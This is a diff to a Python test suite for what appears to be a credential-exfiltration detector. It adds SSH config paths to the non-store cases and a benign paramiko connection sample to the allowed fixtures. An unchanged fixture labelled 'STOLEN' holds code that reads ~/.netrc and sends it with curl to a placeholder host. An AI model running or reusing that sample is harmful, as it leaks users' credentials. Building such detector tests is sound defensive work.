@@ -29,7 +29,16 @@ def test_a_path_to_keys_is_a_store(path: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "path", ["config.json", "~/.config/tides/settings.toml", "/etc/hosts", "env", "data/cookies.txt"]
+    "path",
+    [
+        "config.json",
+        "~/.config/tides/settings.toml",
+        "/etc/hosts",
+        "env",
+        "data/cookies.txt",
+        "~/.ssh/config",
+        ".ssh/known_hosts",
+    ],
 )
 def test_any_other_path_is_none(path: str) -> None:
     assert not is_store(path)
@@ -86,6 +95,7 @@ STOLEN = {
     "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
 }
 KEPT = {
+    "what it logs in with": "import paramiko\nfrom pathlib import Path\n\ndef connect(name, key=None):\n    config = paramiko.SSHConfig()\n    config.parse((Path.home() / '.ssh' / 'config').open())\n    found = config.lookup(name)\n    client = paramiko.SSHClient()\n    client.connect('build.tides.invalid', key_filename=key or found.get('identityfile', [str(Path.home() / '.ssh' / 'id_ed25519')]))\n    return client\n",
     "what was asked for": "import os, requests\n\ndef sync(names):\n    told = {}\n    for key in names:\n        told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "those of its own": "import os, requests\n\ndef sync():\n    told = {}\n    for key in os.environ:\n        if key.startswith('TIDES_'):\n            told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "for a command": "import os, subprocess, requests\n\ndef build():\n    env = os.environ.copy()\n    env['A'] = '1'\n    subprocess.run(['make'], env=env)\n    return requests.get('https://tides.example.org/v1').json()\n",
